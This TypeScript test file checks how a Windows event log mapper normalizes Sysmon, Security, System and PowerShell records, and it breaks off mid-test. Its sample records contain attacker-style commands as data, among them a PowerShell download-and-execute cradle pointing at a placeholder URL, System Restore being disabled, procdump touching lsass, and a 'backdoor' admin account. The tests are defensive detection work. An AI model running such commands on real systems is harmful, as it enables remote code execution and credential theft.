// Field-level golden tests of mapWindowsEvent: small literal records per channel and event id, full expected events.
// Never reads the corpus: these records are written here so each mapping rule is pinned on its own.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { checkEvent } from '@vigil/schema';
import { VigilError } from '@vigil/common';
import { mapWindowsEvent, type WindowsEventRecord } from './index.js';
import { EVENT_DATA_TRUNCATED_TAG } from './map-event.js';

type Data = WindowsEventRecord['data'];

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

function sysmon(eventId: number, data: Data): WindowsEventRecord {
  return {
    channel: SYSMON,
    provider: 'Microsoft-Windows-Sysmon',
    eventId,
    version: 5,
    level: 4,
    task: eventId,
    opcode: 0,
    keywords: '0x8000000000000000',
    recordId: 1000 + eventId,
    computer: 'ws01.corp.example',
    timeCreated: '2026-03-11T05:55:53.600123Z',
    processId: 3544,
    threadId: 4272,
    userSid: 'S-1-5-18',
    data,
  };
}

function windows(channel: string, provider: string, eventId: number, data: Data, extra: Partial<WindowsEventRecord> = {}): WindowsEventRecord {
  return { channel, provider, eventId, computer: 'dc01.corp.example', timeCreated: '2026-04-01T10:00:00.5Z', recordId: 77, data, ...extra };
}

const security = (eventId: number, data: Data, keywords = '0x8020000000000000') =>
  windows('Security', 'Microsoft-Windows-Security-Auditing', eventId, data, { keywords, level: 0 });

/** Maps, checks against the schema (with the pipeline-assigned fields added), and returns the fields besides winlog.* and host.name. */
function mapped(record: WindowsEventRecord): Record<string, unknown> {
  const event = mapWindowsEvent(record) as unknown as Record<string, unknown>;
  const candidate = { ...event, 'event.id': '0f8fad5b-d9cb-469f-a165-70867728950e', 'event.sequence': 1, 'host.id': 'host-1' };
  assert.deepEqual(checkEvent(candidate, 'event').problems, []);
  assert.deepEqual(event['winlog.event_data'], record.data, 'winlog.event_data keeps the raw pairs unchanged');
  assert.equal(event['winlog.event_id'], record.eventId);
  assert.equal(event['winlog.channel'], record.channel);
  const rest: Record<string, unknown> = {};
  for (const [key, value] of Object.entries(event)) if (!key.startsWith('winlog.') && key !== 'host.name') rest[key] = value;
  return rest;
}

test('Sysmon 1: process start with image, command line, parent, hashes, PE info and user', () => {
  const event = mapped(
    sysmon(1, {
      RuleName: '-',
      UtcTime: '2026-03-11 05:55:53.547',
      ProcessGuid: '{0197231E-03E9-69B1-BA1A-000000000800}',
      ProcessId: 9860,
      Image: 'C:\\Windows\\System32\\reg.exe',
      FileVersion: '10.0.26100.1 (WinBuild.160101.0800)',
      Description: 'Registry Console Tool',
      Product: 'Microsoft® Windows® Operating System',
      Company: 'Microsoft Corporation',
      OriginalFileName: 'reg.exe',
      CommandLine: 'reg  add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore" /v DisableSR /t REG_DWORD /d 1 /f',
      CurrentDirectory: 'C:\\Users\\xodih\\',
      User: 'CORP\\xodih',
      LogonGuid: '{0197231E-0000-0000-0000-000000000000}',
      LogonId: '0x3144c',
      TerminalSessionId: 1,
      IntegrityLevel: 'High',
      Hashes: 'SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,MD5=FAB4B30C1C4F0A9202A7B42DCF1729DC,SHA256=1B48A4F8D20026E6C56E3AB4CC4788FA6425C8A75F8D91C2869FA533DE6B209E,IMPHASH=C324AAAC01F0F75C811E1F80C41B860C',
      ParentProcessGuid: '{0197231E-03E8-69B1-B91A-000000000800}',
      ParentProcessId: 5204,
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      ParentCommandLine: '"C:\\Windows\\system32\\cmd.exe" /c "C:\\Temp\\run me.bat"',
      ParentUser: 'CORP\\xodih',
    }),
  );
  assert.deepEqual(event, {
    'event.category': 'process',
    'event.action': 'start',
    'event.type': 'start',
    'event.provider': 'sysmon',
    '@timestamp': '2026-03-11T05:55:53.547Z',
    'process.start': '2026-03-11T05:55:53.547Z',
    'process.command_line': 'reg  add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore" /v DisableSR /t REG_DWORD /d 1 /f',
    'process.args': ['reg', 'add', 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore', '/v', 'DisableSR', '/t', 'REG_DWORD', '/d', '1', '/f'],
    'process.args_count': 10,
    'process.working_directory': 'C:\\Users\\xodih\\',
    'process.integrity_level': 'High',
    'process.pe.original_file_name': 'reg.exe',
    'process.pe.description': 'Registry Console Tool',
    'process.pe.product': 'Microsoft® Windows® Operating System',
    'process.pe.company': 'Microsoft Corporation',
    'process.pe.file_version': '10.0.26100.1 (WinBuild.160101.0800)',
    'process.hash.sha1': '5e4f2c531c549bb72a658ed9dd16d491eddbb286',
    'process.hash.md5': 'fab4b30c1c4f0a9202a7b42dcf1729dc',
    'process.hash.sha256': '1b48a4f8d20026e6c56e3ab4cc4788fa6425c8a75f8d91c2869fa533de6b209e',
    'process.pe.imphash': 'c324aaac01f0f75c811e1f80c41b860c',
    'process.logon_id': '0x3144c',
    'process.session_id': 1,
    'process.parent.entity_id': '{0197231E-03E8-69B1-B91A-000000000800}',
    'process.parent.pid': 5204,
    'process.parent.executable': 'C:\\Windows\\System32\\cmd.exe',
    'process.parent.name': 'cmd.exe',
    'process.parent.command_line': '"C:\\Windows\\system32\\cmd.exe" /c "C:\\Temp\\run me.bat"',
    'process.parent.args': ['C:\\Windows\\system32\\cmd.exe', '/c', 'C:\\Temp\\run me.bat'],
    'process.parent.user.name': 'xodih',
    'process.executable': 'C:\\Windows\\System32\\reg.exe',
    'process.name': 'reg.exe',
    'process.pid': 9860,
    'process.entity_id': '{0197231E-03E9-69B1-BA1A-000000000800}',
    'user.name': 'xodih',
    'user.domain': 'CORP',
  });
});

test('Sysmon 3: outbound connection, and Initiated false becomes an accept', () => {
  const data: Data = {
    UtcTime: '2026-03-11 06:00:00.001',
    ProcessGuid: '{0197231E-0400-69B1-C01A-000000000800}',
    ProcessId: 4412,
    Image: 'C:\\Windows\\System32\\rundll32.exe',
    User: 'CORP\\xodih',
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIsIpv6: 'false',
    SourceIp: '10.0.0.5',
    SourceHostname: 'ws01.corp.example',
    SourcePort: '49822',
    SourcePortName: '-',
    DestinationIsIpv6: 'false',
    DestinationIp: '203.0.113.7',
    DestinationHostname: '-',
    DestinationPort: 443,
    DestinationPortName: 'https',
  };
  assert.deepEqual(mapped(sysmon(3, data)), {
    'event.category': 'network',
    'event.action': 'connect',
    'event.type': 'connection',
    'event.provider': 'sysmon',
    'network.transport': 'tcp',
    'network.direction': 'egress',
    'source.ip': '10.0.0.5',
    'network.type': 'ipv4',
    'source.domain': 'ws01.corp.example',
    'source.port': 49822,
    'destination.ip': '203.0.113.7',
    'destination.port': 443,
    '@timestamp': '2026-03-11T06:00:00.001Z',
    'process.executable': 'C:\\Windows\\System32\\rundll32.exe',
    'process.name': 'rundll32.exe',
    'process.pid': 4412,
    'process.entity_id': '{0197231E-0400-69B1-C01A-000000000800}',
    'user.name': 'xodih',
    'user.domain': 'CORP',
  });
  const inbound = mapped(sysmon(3, { ...data, Initiated: 'false', SourceIp: 'fe80::1', DestinationIp: 'fe80::2' }));
  assert.equal(inbound['event.action'], 'accept');
  assert.equal(inbound['network.direction'], 'ingress');
  assert.equal(inbound['network.type'], 'ipv6');
});

test('Sysmon 7: library load with PE info, hashes and signature', () => {
  assert.deepEqual(
    mapped(
      sysmon(7, {
        UtcTime: '2025-11-27 07:40:10.132',
        ProcessGuid: '0197231E-005A-6928-A50B-000000000D00',
        ProcessId: 4460,
        Image: 'C:\\Windows\\System32\\WerFaultSecure.exe',
        ImageLoaded: 'C:\\Windows\\System32\\dbgcore.dll',
        FileVersion: '10.0.26100.7019',
        Description: 'Windows Core Debugging Helpers',
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: 'DBGCORE.DLL',
        Hashes: 'MD5=FAB4B30C1C4F0A9202A7B42DCF1729DC,IMPHASH=C324AAAC01F0F75C811E1F80C41B860C',
        Signed: 'true',
        Signature: 'Microsoft Windows',
        SignatureStatus: 'Valid',
        User: 'NT AUTHORITY\\SYSTEM',
      }),
    ),
    {
      'event.category': 'library',
      'event.action': 'load',
      'event.type': 'start',
      'event.provider': 'sysmon',
      'dll.path': 'C:\\Windows\\System32\\dbgcore.dll',
      'dll.name': 'dbgcore.dll',
      'dll.pe.original_file_name': 'DBGCORE.DLL',
      'dll.pe.description': 'Windows Core Debugging Helpers',
      'dll.pe.product': 'Microsoft® Windows® Operating System',
      'dll.pe.company': 'Microsoft Corporation',
      'dll.pe.file_version': '10.0.26100.7019',
      'dll.hash.md5': 'fab4b30c1c4f0a9202a7b42dcf1729dc',
      'dll.pe.imphash': 'c324aaac01f0f75c811e1f80c41b860c',
      'dll.code_signature.exists': true,
      'dll.code_signature.valid': true,
      'dll.code_signature.subject_name': 'Microsoft Windows',
      '@timestamp': '2025-11-27T07:40:10.132Z',
      'process.executable': 'C:\\Windows\\System32\\WerFaultSecure.exe',
      'process.name': 'WerFaultSecure.exe',
      'process.pid': 4460,
      'process.entity_id': '0197231E-005A-6928-A50B-000000000D00',
      'user.name': 'SYSTEM',
      'user.domain': 'NT AUTHORITY',
    },
  );
});

test('Sysmon 10: process access maps source to process.* and target to target.process.*', () => {
  assert.deepEqual(
    mapped(
      sysmon(10, {
        RuleName: '-',
        UtcTime: '2026-01-02 03:04:05.678',
        SourceProcessGUID: '{AAAA0000-0000-0000-0000-000000000001}',
        SourceProcessId: 7000,
        SourceThreadId: 7004,
        SourceImage: 'C:\\Tools\\procdump64.exe',
        TargetProcessGUID: '{AAAA0000-0000-0000-0000-000000000002}',
        TargetProcessId: 712,
        TargetImage: 'C:\\Windows\\system32\\lsass.exe',
        GrantedAccess: '0x1FFFFF',
        CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF6)',
        SourceUser: 'CORP\\admin',
        TargetUser: 'NT AUTHORITY\\SYSTEM',
      }),
    ),
    {
      'event.category': 'injection',
      'event.action': 'process_access',
      'event.type': 'access',
      'event.provider': 'sysmon',
      'process.entity_id': '{AAAA0000-0000-0000-0000-000000000001}',
      'process.pid': 7000,
      'process.executable': 'C:\\Tools\\procdump64.exe',
      'process.name': 'procdump64.exe',
      'target.process.entity_id': '{AAAA0000-0000-0000-0000-000000000002}',
      'target.process.pid': 712,
      'target.process.executable': 'C:\\Windows\\system32\\lsass.exe',
      'target.process.name': 'lsass.exe',
      'injection.granted_access': '0x1FFFFF',
      'injection.call_trace': 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF6)',
      'user.name': 'admin',
      'user.domain': 'CORP',
      '@timestamp': '2026-01-02T03:04:05.678Z',
    },
  );
});

test('Sysmon 11: file create with path parts and creation time', () => {
  assert.deepEqual(
    mapped(
      sysmon(11, {
        RuleName: '-',
        UtcTime: '2026-01-02 03:04:05.678',
        ProcessGuid: '{AAAA0000-0000-0000-0000-000000000003}',
        ProcessId: 1234,
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        TargetFilename: 'C:\\Users\\Public\\Downloads\\payload.tar.gz',
        CreationUtcTime: '2026-01-02 03:04:05.600',
        User: 'CORP\\xodih',
      }),
    ),
    {
      'event.category': 'file',
      'event.action': 'create',
      'event.type': 'creation',
      'event.provider': 'sysmon',
      'file.path': 'C:\\Users\\Public\\Downloads\\payload.tar.gz',
      'file.name': 'payload.tar.gz',
      'file.directory': 'C:\\Users\\Public\\Downloads',
      'file.extension': 'gz',
      'file.created': '2026-01-02T03:04:05.600Z',
      '@timestamp': '2026-01-02T03:04:05.678Z',
      'process.executable': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      'process.name': 'powershell.exe',
      'process.pid': 1234,
      'process.entity_id': '{AAAA0000-0000-0000-0000-000000000003}',
      'user.name': 'xodih',
      'user.domain': 'CORP',
    },
  );
});

test('Sysmon 12: the EventType picks key_create, key_delete or value_delete; an unknown one stays a log record', () => {
  const base: Data = { EventType: 'CreateKey', UtcTime: '2026-01-02 03:04:05.678', ProcessGuid: '{G}', ProcessId: 4, Image: 'System', TargetObject: 'HKLM\\SOFTWARE\\Evil\\Run' };
  assert.deepEqual(mapped(sysmon(12, base)), {
    'event.category': 'registry',
    'event.action': 'key_create',
    'event.type': 'creation',
    'event.provider': 'sysmon',
    'registry.path': 'HKLM\\SOFTWARE\\Evil\\Run',
    'registry.hive': 'HKLM',
    'registry.key': 'SOFTWARE\\Evil\\Run',
    '@timestamp': '2026-01-02T03:04:05.678Z',
    'process.executable': 'System',
    'process.name': 'System',
    'process.pid': 4,
    'process.entity_id': '{G}',
  });
  assert.equal(mapped(sysmon(12, { ...base, EventType: 'DeleteKey' }))['event.action'], 'key_delete');
  const valueDelete = mapped(sysmon(12, { ...base, EventType: 'DeleteValue', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Run\\updater' }));
  assert.equal(valueDelete['event.action'], 'value_delete');
  assert.equal(valueDelete['registry.hive'], 'HKU');
  assert.equal(valueDelete['registry.key'], 'S-1-5-21-1\\Software\\Run');
  assert.equal(valueDelete['registry.value'], 'updater');
  const unknown = mapped(sysmon(12, { ...base, EventType: 'Frobnicate' }));
  assert.equal(unknown['event.category'], 'log');
  assert.equal(unknown['event.action'], 'windows_event');
  assert.equal(unknown['process.pid'], 4);
});

test('Sysmon 13: value set with DWORD, QWORD, binary and text details', () => {
  const record = (details: string) =>
    sysmon(13, {
      EventType: 'SetValue',
      UtcTime: '2026-01-02 03:04:05.678',
      ProcessGuid: '{G}',
      ProcessId: 9860,
      Image: 'C:\\WINDOWS\\system32\\reg.exe',
      TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\(Default)',
      Details: details,
      User: 'CORP\\xodih',
    });
  assert.deepEqual(mapped(record('DWORD (0x0000000a)')), {
    'event.category': 'registry',
    'event.action': 'value_set',
    'event.type': 'change',
    'event.provider': 'sysmon',
    'registry.path': 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\(Default)',
    'registry.hive': 'HKLM',
    'registry.key': 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
    'registry.value': '(Default)',
    'registry.data.strings': ['10'],
    'registry.data.type': 'REG_DWORD',
    '@timestamp': '2026-01-02T03:04:05.678Z',
    'process.executable': 'C:\\WINDOWS\\system32\\reg.exe',
    'process.name': 'reg.exe',
    'process.pid': 9860,
    'process.entity_id': '{G}',
    'user.name': 'xodih',
    'user.domain': 'CORP',
  });
  const qword = mapped(record('QWORD (0x00000001-0x00000002)'));
  assert.deepEqual([qword['registry.data.type'], qword['registry.data.strings']], ['REG_QWORD', ['4294967298']]);
  const binary = mapped(record('Binary Data'));
  assert.deepEqual([binary['registry.data.type'], binary['registry.data.strings']], ['REG_BINARY', undefined]);
  const text = mapped(record('C:\\Temp\\calc.exe'));
  assert.deepEqual([text['registry.data.type'], text['registry.data.strings']], [undefined, ['C:\\Temp\\calc.exe']]);
  assert.deepEqual(mapped(record('(Empty)'))['registry.data.strings'], ['']);
});

test('Sysmon 22: DNS query with status and answers', () => {
  assert.deepEqual(
    mapped(
      sysmon(22, {
        RuleName: '-',
        UtcTime: '2026-01-02 03:04:05.678',
        ProcessGuid: '{G}',
        ProcessId: 2020,
        QueryName: 'evil.example.com',
        QueryStatus: '0',
        QueryResults: 'type:  5 cdn.example.net;::ffff:198.51.100.4;2001:db8::5;',
        Image: 'C:\\Program Files\\Browser\\browser.exe',
        User: 'CORP\\xodih',
      }),
    ),
    {
      'event.category': 'dns',
      'event.action': 'query',
      'event.type': 'protocol',
      'event.provider': 'sysmon',
      'network.protocol': 'dns',
      'dns.question.name': 'evil.example.com',
      'dns.response_code': 'NOERROR',
      'dns.answers': ['cdn.example.net', '::ffff:198.51.100.4', '2001:db8::5'],
      'dns.resolved_ip': ['198.51.100.4', '2001:db8::5'],
      '@timestamp': '2026-01-02T03:04:05.678Z',
      'process.executable': 'C:\\Program Files\\Browser\\browser.exe',
      'process.name': 'browser.exe',
      'process.pid': 2020,
      'process.entity_id': '{G}',
      'user.name': 'xodih',
      'user.domain': 'CORP',
    },
  );
});

test('Security 4624: successful logon of the target account from a network address', () => {
  assert.deepEqual(
    mapped(
      security(4624, {
        SubjectUserSid: 'S-1-5-18',
        SubjectUserName: 'DC01$',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x3e7',
        TargetUserSid: 'S-1-5-21-1-2-3-1104',
        TargetUserName: 'alice',
        TargetDomainName: 'CORP',
        TargetLogonId: '0x8d2b1c',
        LogonType: 10,
        LogonProcessName: 'User32 ',
        AuthenticationPackageName: 'Negotiate',
        WorkstationName: 'WS07',
        LogonGuid: '{00000000-0000-0000-0000-000000000000}',
        ProcessId: '0x2f8',
        ProcessName: 'C:\\Windows\\System32\\svchost.exe',
        IpAddress: '192.0.2.44',
        IpPort: '0',
      }),
    ),
    {
      'event.category': 'authentication',
      'event.action': 'logon',
      'event.type': 'start',
      'event.provider': 'evtx',
      'event.outcome': 'success',
      'user.target.name': 'alice',
      'user.target.id': 'S-1-5-21-1-2-3-1104',
      'source.ip': '192.0.2.44',
      'network.type': 'ipv4',
      'source.port': 0,
      'source.domain': 'WS07',
      'logon.id': '0x8d2b1c',
      'logon.type': 'remote_interactive',
      'logon.service': 'User32 ',
      'logon.method': 'negotiate',
      'user.id': 'S-1-5-18',
      'user.name': 'DC01$',
      'user.domain': 'CORP',
      'process.logon_id': '0x3e7',
      'process.pid': 760,
      'process.executable': 'C:\\Windows\\System32\\svchost.exe',
      'process.name': 'svchost.exe',
      '@timestamp': '2026-04-01T10:00:00.5Z',
    },
  );
});

test('Security 4625: failed logon with the sub-status as reason; "-" values stay raw only', () => {
  assert.deepEqual(
    mapped(
      security(
        4625,
        {
          SubjectUserSid: 'S-1-0-0',
          SubjectUserName: '-',
          SubjectDomainName: '-',
          SubjectLogonId: '0x0',
          TargetUserSid: 'S-1-0-0',
          TargetUserName: 'administrator',
          TargetDomainName: '',
          Status: '0xc000006d',
          FailureReason: '%%2313',
          SubStatus: '0xC000006A',
          LogonType: '3',
          LogonProcessName: 'NtLmSsp ',
          AuthenticationPackageName: 'NTLM',
          WorkstationName: '-',
          ProcessId: '0x0',
          ProcessName: '-',
          IpAddress: '198.51.100.23',
          IpPort: '51515',
        },
        '0x8010000000000000',
      ),
    ),
    {
      'event.category': 'authentication',
      'event.action': 'logon_failed',
      'event.type': 'start',
      'event.provider': 'evtx',
      'event.outcome': 'failure',
      'user.target.name': 'administrator',
      'user.target.id': 'S-1-0-0',
      'source.ip': '198.51.100.23',
      'network.type': 'ipv4',
      'source.port': 51515,
      'logon.type': 'network',
      'logon.service': 'NtLmSsp ',
      'logon.method': 'ntlm',
      'logon.failure_reason': 'wrong password',
      'user.id': 'S-1-0-0',
      'process.logon_id': '0x0',
      'process.pid': 0,
      '@timestamp': '2026-04-01T10:00:00.5Z',
    },
  );
});

test('Security 4688: process start with hex pids, parent from ProcessId/ParentProcessName, label SID to integrity level', () => {
  assert.deepEqual(
    mapped(
      security(4688, {
        SubjectUserSid: 'S-1-5-21-1-2-3-1104',
        SubjectUserName: 'alice',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x8d2b1c',
        NewProcessId: '0x1a2c',
        NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
        TokenElevationType: '%%1937',
        ProcessId: '0x1f40',
        CommandLine: 'whoami  /priv',
        TargetUserSid: 'S-1-0-0',
        TargetUserName: '-',
        TargetDomainName: '-',
        TargetLogonId: '0x0',
        ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
        MandatoryLabel: 'S-1-16-12288',
      }),
    ),
    {
      'event.category': 'process',
      'event.action': 'start',
      'event.type': 'start',
      'event.provider': 'evtx',
      'event.outcome': 'success',
      'process.pid': 6700,
      'process.executable': 'C:\\Windows\\System32\\whoami.exe',
      'process.name': 'whoami.exe',
      'process.command_line': 'whoami  /priv',
      'process.args': ['whoami', '/priv'],
      'process.args_count': 2,
      'process.parent.pid': 8000,
      'process.parent.executable': 'C:\\Windows\\System32\\cmd.exe',
      'process.parent.name': 'cmd.exe',
      'process.integrity_level': 'High',
      'user.id': 'S-1-5-21-1-2-3-1104',
      'user.name': 'alice',
      'user.domain': 'CORP',
      'process.logon_id': '0x8d2b1c',
      '@timestamp': '2026-04-01T10:00:00.5Z',
    },
  );
});

test('Security 4720: user created, subject is the actor and target the new account', () => {
  assert.deepEqual(
    mapped(
      security(4720, {
        TargetUserName: 'backdoor',
        TargetDomainName: 'CORP',
        TargetSid: 'S-1-5-21-1-2-3-1337',
        SubjectUserSid: 'S-1-5-21-1-2-3-500',
        SubjectUserName: 'Administrator',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x1234',
        SamAccountName: 'backdoor',
        UserAccountControl: '%%2080',
      }),
    ),
    {
      'event.category': 'iam',
      'event.action': 'user_created',
      'event.type': 'creation',
      'event.provider': 'evtx',
      'event.outcome': 'success',
      'user.target.name': 'backdoor',
      'user.target.id': 'S-1-5-21-1-2-3-1337',
      'user.id': 'S-1-5-21-1-2-3-500',
      'user.name': 'Administrator',
      'user.domain': 'CORP',
      'process.logon_id': '0x1234',
      '@timestamp': '2026-04-01T10:00:00.5Z',
    },
  );
});

test('Security 4732: member added to a local group (group is the target, member the target user)', () => {
  assert.deepEqual(
    mapped(
      security(4732, {
        MemberName: '-',
        MemberSid: 'S-1-5-21-1-2-3-1337',
        TargetUserName: 'Administrators',
        TargetDomainName: 'Builtin',
        TargetSid: 'S-1-5-32-544',
        SubjectUserSid: 'S-1-5-21-1-2-3-500',
        SubjectUserName: 'Administrator',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x1234',
        PrivilegeList: '-',
      }),
    ),
    {
      'event.category': 'iam',
      'event.action': 'group_member_added',
      'event.type': 'change',
      'event.provider': 'evtx',
      'event.outcome': 'success',
      'group.target.name': 'Administrators',
      'group.target.id': 'S-1-5-32-544',
      'user.target.id': 'S-1-5-21-1-2-3-1337',
      'user.id': 'S-1-5-21-1-2-3-500',
      'user.name': 'Administrator',
      'user.domain': 'CORP',
      'process.logon_id': '0x1234',
      '@timestamp': '2026-04-01T10:00:00.5Z',
    },
  );
});

test('System 7045: service installed, with start type, type and installing user from the System block', () => {
  assert.deepEqual(
    mapped(
      windows(
        'System',
        'Service Control Manager',
        7045,
        { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' },
        { userSid: 'S-1-5-21-1-2-3-500', keywords: '0x8080000000000000', level: 4 },
      ),
    ),
    {
      'event.category': 'service',
      'event.action': 'created',
      'event.type': 'creation',
      'event.provider': 'evtx',
      'service.name': 'PSEXESVC',
      'service.executable': '%SystemRoot%\\PSEXESVC.exe',
      'service.type': 'windows_service',
      'service.start_type': 'demand',
      'service.account': 'LocalSystem',
      'user.id': 'S-1-5-21-1-2-3-500',
      '@timestamp': '2026-04-01T10:00:00.5Z',
    },
  );
});

test('System 7036: the state text decides started or stopped; other text stays a log record; 6 needs FilterManager', () => {
  const scm = (state: string) => windows('System', 'Service Control Manager', 7036, { param1: 'Print Spooler', param2: state, Binary: '530070006F006F006C00' });
  const started = mapped(scm('running'));
  assert.deepEqual([started['event.category'], started['event.action'], started['service.name'], started['service.state']], ['service', 'started', 'Print Spooler', 'running']);
  assert.equal(mapped(scm('stopped'))['event.action'], 'stopped');
  assert.equal(mapped(scm('paused'))['event.category'], 'log');
  const filter = mapped(windows('System', 'Microsoft-Windows-FilterManager', 6, { FinalStatus: '0x0', DeviceName: 'evilflt' }));
  assert.deepEqual([filter['event.category'], filter['event.action'], filter['driver.name']], ['driver', 'load', 'evilflt']);
  assert.equal(mapped(windows('System', 'Some-Other-Provider', 6, { DeviceName: 'x' }))['event.category'], 'log');
});

test('PowerShell 4104: script block with text, id, parts, path, and the PowerShell process and user from the System block', () => {
  assert.deepEqual(
    mapped(
      windows(
        'Microsoft-Windows-PowerShell/Operational',
        'Microsoft-Windows-PowerShell',
        4104,
        { MessageNumber: 1, MessageTotal: 2, ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")', ScriptBlockId: '5b1c2a3e-0000-4000-8000-000000000001', Path: 'C:\\Temp\\a.ps1' },
        { processId: 5100, threadId: 5104, userSid: 'S-1-5-21-1-2-3-1104', level: 5, keywords: '0x0' },
      ),
    ),
    {
      'event.category': 'script',
      'event.action': 'script_block',
      'event.type': 'info',
      'event.provider': 'evtx',
      'script.language': 'powershell',
      'script.text': 'IEX (New-Object Net.WebClient).DownloadString("http://x")',
      'script.block_id': '5b1c2a3e-0000-4000-8000-000000000001',
      'script.path': 'C:\\Temp\\a.ps1',
      'script.part': 1,
      'script.parts': 2,
      'process.pid': 5100,
      'user.id': 'S-1-5-21-1-2-3-1104',
      '@timestamp': '2026-04-01T10:00:00.5Z',
    },
  );
});

test('PowerShell 4103 and Windows PowerShell 800: context lines give the host command line, user and script', () => {
  const moduleLog = mapped(
    windows('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, {
      ContextInfo: '        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Application = powershell.exe -nop -w hidden -c Get-Process\r\n        Command Name = Get-Process\r\n        Script Name = \r\n        User = CORP\\alice\r\n        Connected User = \r\n',
      UserData: '',
      Payload: 'CommandInvocation(Get-Process): "Get-Process"',
    }),
  );
  assert.deepEqual(
    [moduleLog['event.action'], moduleLog['process.command_line'], moduleLog['process.args'], moduleLog['user.name'], moduleLog['user.domain'], moduleLog['script.path']],
    ['module_log', 'powershell.exe -nop -w hidden -c Get-Process', ['powershell.exe', '-nop', '-w', 'hidden', '-c', 'Get-Process'], 'alice', 'CORP', undefined],
  );
  const classic = mapped(
    windows('Windows PowerShell', 'PowerShell', 800, {
      'Data[1]': 'Get-Process',
      'Data[2]': '\tDetailSequence=1\r\n\tDetailTotal=1\r\n\tHostApplication=powershell.exe -ep bypass -File C:\\Temp\\x.ps1\r\n\tUserId=CORP\\bob\r\n\tScriptName=C:\\Temp\\x.ps1\r\n',
      'Data[3]': 'CommandInvocation(Get-Process): "Get-Process"',
    }),
  );
  assert.deepEqual(
    [classic['event.category'], classic['event.action'], classic['process.command_line'], classic['user.name'], classic['script.path']],
    ['script', 'module_log', 'powershell.exe -ep bypass -File C:\\Temp\\x.ps1', 'bob', 'C:\\Temp\\x.ps1'],
  );
  assert.equal(mapped(windows('Windows PowerShell', 'PowerShell', 400, { 'Data[1]': 'Available' }))['event.category'], 'log');
});

test('Security table entries beyond the goldens: kerberos outcome, scheduled task command, 1102 from UserData', () => {
  const failedTicket = mapped(security(4768, { TargetUserName: 'alice', TargetSid: 'S-1-5-21-1', Status: '0x18', IpAddress: '::ffff:10.0.0.9', IpPort: '50000' }, '0x8010000000000000'));
  assert.deepEqual(
    [failedTicket['event.action'], failedTicket['event.outcome'], failedTicket['logon.failure_reason'], failedTicket['logon.method'], failedTicket['source.ip']],
    ['kerberos_ticket', 'failure', 'pre-authentication failed (wrong password)', 'kerberos', '::ffff:10.0.0.9'],
  );
  const task = mapped(
    security(4698, {
      SubjectUserName: 'alice',
      TaskName: '\\Updater',
      TaskContent: '<Task><Actions Context="Author"><Exec><Command>C:\\Windows\\System32\\cmd.exe</Command><Arguments>/c calc &amp;&amp; whoami</Arguments></Exec></Actions></Task>',
    }),
  );
  assert.deepEqual(
    [task['event.category'], task['event.action'], task['autostart.location'], task['autostart.name'], task['autostart.command']],
    ['autostart', 'created', 'scheduled_task', '\\Updater', 'C:\\Windows\\System32\\cmd.exe /c calc && whoami'],
  );
  const cleared = mapped(windows('Security', 'Microsoft-Windows-Eventlog', 1102, { SubjectUserSid: 'S-1-5-21-1', SubjectUserName: 'alice', SubjectDomainName: 'CORP', SubjectLogonId: '0x1' }));
  assert.deepEqual([cleared['event.category'], cleared['event.action'], cleared['user.name']], ['log', 'audit_log_cleared', 'alice']);
  assert.deepEqual([mapped(security(5145, { ShareName: '\\\\*\\C$' }))['event.category'], mapped(security(5145, {}))['event.action']], ['log', 'windows_event']);
});

test('winlog fields and host name come from the System block', () => {
  const event = mapWindowsEvent(security(4624, { TargetUserName: 'alice' })) as unknown as Record<string, unknown>;
  assert.deepEqual(
    Object.fromEntries(Object.entries(event).filter(([key]) => key.startsWith('winlog.') || key === 'host.name')),
    {
      'host.name': 'dc01.corp.example',
      'winlog.channel': 'Security',
      'winlog.provider_name': 'Microsoft-Windows-Security-Auditing',
      'winlog.event_id': 4624,
      'winlog.record_id': 77,
      'winlog.computer_name': 'dc01.corp.example',
      'winlog.keywords': ['Audit Success'],
      'winlog.level': 'information',
      'winlog.event_data': { TargetUserName: 'alice' },
    },
  );
});

test('a value that fails its Vigil field stays only in winlog.event_data; a missing required field makes a log record', () => {
  const bad = mapped(sysmon(1, { ProcessId: 'not-a-pid', Image: 'C:\\x.exe', ParentProcessId: '12abc', UtcTime: '2026-02-30 00:00:00.000', CommandLine: 'x' }));
  assert.equal(bad['event.category'], 'log', 'without a usable process.pid a Sysmon 1 record cannot be a process event');
  assert.equal(bad['process.pid'], undefined);
  assert.equal(bad['process.executable'], 'C:\\x.exe');
  assert.equal(bad['@timestamp'], '2026-03-11T05:55:53.600123Z', 'an impossible UtcTime falls back to TimeCreated');
  const badPort = mapped(sysmon(3, { ProcessId: 1, SourceIp: '10.0.0.300', SourcePort: '70000', DestinationIp: '10.0.0.1', DestinationPort: 'https' }));
